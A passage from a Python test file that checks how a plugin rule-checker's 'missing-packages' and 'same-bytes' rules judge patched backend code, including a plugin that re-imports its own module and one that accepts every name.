    assert found in outcome.detail


def test_what_is_in_the_own_package_of_a_plugin_is_no_package_that_may_be_missing(install: Install) -> None:
    again = "        import sys\n        if sys.modules[__name__]:\n            sys.modules.pop(__name__)\n"
    asks = f"{again}        __import__(__name__)\n        return Availability(True)\n"
    install(("        return Availability(True)\n", asks), distribution="acme-seeded")
    assert "looks for no package" in try_rule("missing-packages").detail


def test_a_backend_that_takes_nothing_breaks_no_rule(install: Install) -> None:
    install(("        if name not in TAKEN:", "        if True:"))
    for rule in RULES:
        if rule not in SLOW:
            outcome = try_rule(rule)
            assert not outcome.verdict.is_fault, f"{rule}: {outcome.detail}"
    assert "it takes no operator of arithmetic, linear" in try_rule("same-bytes").detail
